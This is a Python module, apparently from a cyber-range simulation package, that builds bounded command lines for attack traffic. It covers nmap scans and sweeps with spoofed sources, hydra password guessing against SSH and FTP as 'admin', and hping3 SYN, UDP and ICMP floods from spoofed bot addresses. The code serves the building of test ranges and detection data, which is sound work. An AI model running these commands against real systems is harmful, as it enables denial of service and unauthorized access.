"""How each kind of attack is carried out: the command lines of the real tools, decided apart from running them.

Rules:
    1. Pure: an episode in, commands out. Every command is bounded by a count of its own (packets, ports, words) and,
       by its runner, by the episode's time.
    2. Tools that exist are used (nmap, hydra, hping3); what has no common tool is scripted (`scripted`).
    3. Floods are bursts, bounded in flows: a range must show their shape, not fill a disk.

Example:
    >>> from nervure_simulations.ranges.site_plan import Episode
    >>> scan = Episode("slow_scan", 0.0, 8.0, "adv", ("198.18.0.9",), ("10.0.0.5",), "tcp", None, 3, {"seed": "1"})
    >>> commands_of(scan, Files(words="words", python="python3", lan_hosts=()))[0][:2]
    ('nmap', '-sS')
"""

import ipaddress
import json
import random
from collections.abc import Callable, Mapping
from dataclasses import dataclass

from nervure_simulations.ranges.site_plan import Episode

Command = tuple[str, ...]

_COMMON_PORTS = (
    20, 21, 22, 23, 25, 53, 80, 81, 88, 110, 111, 123, 135, 139, 143, 161, 389, 443, 445, 465, 502, 514, 548, 554, 587, 631,
    636, 873, 993, 995, 1080, 1194, 1433, 1521, 1723, 1883, 1900, 2049, 2323, 3000, 3306, 3389, 3478, 4444, 5000, 5004, 5060,
    5432, 5683, 5900, 5985, 6379, 6667, 7547, 8000, 8008, 8080, 8081, 8443, 8883, 8888, 9000, 9100, 9200, 10000, 11211, 27017,
    32764, 37777, 47808, 49152, 50000,
)  # fmt: skip


@dataclass(frozen=True, slots=True)
class Files:
    """What the commands need from the run."""

    words: str
    """Path of the list of guesses."""
    python: str
    """Interpreter for scripted attacks."""
    lan_hosts: tuple[str, ...]
    """Hosts of the lan that exist: a sweep meets some of them."""
    mqtt_password: str = ""


def _nmap(scan: str, episode: Episode, rng: random.Random, *options: str) -> Command:
    ports = sorted(rng.sample(_COMMON_PORTS, k=min(episode.flows, len(_COMMON_PORTS))))
    source = () if scan == "-sT" else ("-S", episode.sources[0], "-e", "eth0")
    return (
        "nmap", scan, "-n", "-Pn", "--disable-arp-ping", "--send-ip", *source, *options,
        "-p", ",".join(map(str, ports)), *episode.targets,
    )  # fmt: skip


def _scan(flag: str) -> Callable[[Episode, Files, random.Random], list[Command]]:
    def commands(episode: Episode, files: Files, rng: random.Random) -> list[Command]:
        del files
        return [_nmap(flag, episode, rng, f"-T{episode.options.get('pace', '4')}", "--max-retries", "1")]

    return commands


def _slow_scan(episode: Episode, files: Files, rng: random.Random) -> list[Command]:
    del files
    delay_ms = int(1000 * 0.85 * episode.most_s / max(episode.flows, 1))
    return [_nmap("-sS", episode, rng, "--scan-delay", f"{delay_ms}ms", "--max-retries", "0")]


def _sweep(episode: Episode, files: Files, rng: random.Random) -> list[Command]:
    hosts = [str(host) for host in ipaddress.ip_network(episode.targets[0]).hosts()]
    known = [host for host in files.lan_hosts if host in hosts and host not in episode.sources]
    chosen = {*rng.sample(hosts, k=min(episode.flows, len(hosts))), *known[:4]} - set(episode.sources)
    return [
        (
            "nmap", "-sS", "-n", "-Pn", "--disable-arp-ping", "--send-ip", "-S", episode.sources[0], "-e", "eth0", "-T4",
            "--max-retries", rng.choice(("0", "1")), "-p", episode.options["port"], *sorted(chosen),
        )
    ]  # fmt: skip


def _guess(protocol: str, user: str) -> Callable[[Episode, Files, random.Random], list[Command]]:
    def commands(episode: Episode, files: Files, rng: random.Random) -> list[Command]:
        del rng
        # A guess takes the server seconds to refuse: many at a time, or an episode is a handful of flows.
        tasks = str(max(6, min(episode.flows // 2, 16)))
        return [("hydra", "-I", "-l", user, "-P", files.words, "-t", tasks, f"{protocol}://{episode.targets[0]}")]

    return commands


def _bots(episode: Episode, rng: random.Random, most: int) -> list[str]:
    hosts = [str(host) for host in ipaddress.ip_network(episode.sources[0]).hosts()]
    return rng.sample(hosts, k=max(1, min(most, len(hosts))))


def _syn_flood(episode: Episode, files: Files, rng: random.Random) -> list[Command]:
    del files
    bots = _bots(episode, rng, rng.randint(2, 6))
    gap = f"u{rng.choice((500, 2000, 8000))}"
    count = str(max(2, episode.flows // len(bots)))
    commands: list[Command] = []
    for bot in bots:
        base = str(rng.randint(2000, 40000))
        one = ("hping3", "-q", "-n", "-S", "-a", bot, "-s", base, "-p", "80", "-i", gap, "-c", count, *episode.targets)
        # The same ports again: some floods knock several times from each.
        commands += [one] * int(episode.options["packets"])
    return commands


def _datagram_flood(mode: str) -> Callable[[Episode, Files, random.Random], list[Command]]:
    def commands(episode: Episode, files: Files, rng: random.Random) -> list[Command]:
        del files
        made: list[Command] = []
        port = int(episode.options["port"])
        for bot in _bots(episode, rng, episode.flows):
            aim = (
                ("-p", str(port or rng.randint(1, 65000)), "-s", str(rng.randint(2000, 60000)), "-k")
                if mode == "-2"
                else ()
            )
            size = str(rng.choice((0, 32, 200, 1000)))
            packets = str(max(2, int(int(episode.options["packets"]) * rng.uniform(0.6, 1.4))))
            gap = f"u{rng.choice((300, 1000, 5000))}"
            made.append(
                ("hping3", "-q", "-n", mode, "-a", bot, *aim, "-d", size, "-i", gap, "-c", packets, *episode.targets)
            )
        return made

    return commands


def _scripted(episode: Episode, files: Files, rng: random.Random) -> list[Command]:
    request = {
        "kind": episode.kind,
        "source": episode.sources[0],
        "target": episode.targets[0],
        "port": (episode.ports or (0,))[0],
        "flows": episode.flows,
        "seconds": episode.most_s,
        "seed": rng.getrandbits(32),
        "few": episode.options.get("sockets") == "few",
        "password": files.mqtt_password,
    }
    return [(files.python, "-m", "nervure_simulations.ranges.scripted", json.dumps(request))]


_RECIPES: Mapping[str, Callable[[Episode, Files, random.Random], list[Command]]] = {
    "syn_scan": _scan("-sS"),
    "connect_scan": _scan("-sT"),
    "udp_scan": _scan("-sU"),
    "slow_scan": _slow_scan,
    "sweep": _sweep,
    "ssh_guessing": _guess("ssh", "admin"),
    "ftp_guessing": _guess("ftp", "admin"),
    "syn_flood": _syn_flood,
    "udp_flood": _datagram_flood("-2"),
    "icmp_flood": _datagram_flood("-1"),
    "mqtt_guessing": _scripted,
    "mqtt_flood": _scripted,
    "dns_tunnel": _scripted,
    "slowloris": _scripted,
}


def commands_of(episode: Episode, files: Files) -> list[Command]:
    """Return the command lines of one episode; the same episode gives the same commands."""
    return _RECIPES[episode.kind](episode, files, random.Random(int(episode.options["seed"])))
